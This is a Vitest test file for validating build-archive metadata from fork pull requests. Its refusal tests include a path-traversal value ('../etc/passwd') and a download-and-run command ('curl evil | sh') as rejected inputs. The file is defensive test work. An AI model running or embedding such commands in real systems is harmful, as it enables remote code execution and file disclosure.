import { describe, expect, it } from 'vitest';
import {
  metadataMismatches,
  parseArchiveMetadata,
  type ArchiveMetadata,
  type ExpectedBuild,
} from '../../../src/build/archive-metadata.js';

const SHA = 'a'.repeat(40);
const CONFIG = `sha256:${'c'.repeat(64)}`;
const good: ArchiveMetadata = {
  version: 1,
  pr: 7,
  head_sha: SHA,
  service: 'web',
  build_inputs: '0123456789abcdef',
  config_digest: CONFIG,
  archive: 'image.tar',
};
const expected: ExpectedBuild = {
  pr: 7,
  headSha: SHA,
  service: 'web',
  configDigest: CONFIG,
  archiveName: 'image.tar',
};

describe("a fork archive's metadata", () => {
  it('parses what command: build writes', () => {
    expect(parseArchiveMetadata(JSON.stringify(good))).toEqual(good);
  });

  it.each([
    ['not JSON', '{', 'not JSON'],
    ['an older version', JSON.stringify({ ...good, version: 2 }), 'version'],
    ['a short SHA', JSON.stringify({ ...good, head_sha: 'abc1234' }), 'head_sha'],
    ['a PR number as text', JSON.stringify({ ...good, pr: '7' }), 'pr'],
    ['a path as the archive', JSON.stringify({ ...good, archive: '../etc/passwd' }), 'archive'],
    ['an unknown field', JSON.stringify({ ...good, run: 'curl evil | sh' }), '(top level)'],
    ['a non-sha256 digest', JSON.stringify({ ...good, config_digest: 'md5:00' }), 'config_digest'],
    ['a huge file', JSON.stringify({ ...good, pad: 'x'.repeat(20_000) }), 'bytes'],
  ])('refuses %s', (_what, text, named) => {
    expect(() => parseArchiveMetadata(text)).toThrow(named);
  });

  it.each<[string, Partial<ArchiveMetadata>, string]>([
    ['another PR', { pr: 8 }, 'PR #8'],
    ['another commit', { head_sha: 'b'.repeat(40) }, `commit ${'b'.repeat(40)}`],
    ['another service', { service: 'api' }, 'service api'],
    ['another image', { config_digest: `sha256:${'d'.repeat(64)}` }, 'is not the archive'],
    ['another archive', { archive: 'other.tar' }, 'other.tar'],
  ])('names a mismatch: %s', (_what, change, words) => {
    const problems = metadataMismatches({ ...good, ...change }, expected);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toContain(words);
  });

  it('matches when everything agrees', () => {
    expect(metadataMismatches(good, expected)).toEqual([]);
  });
});
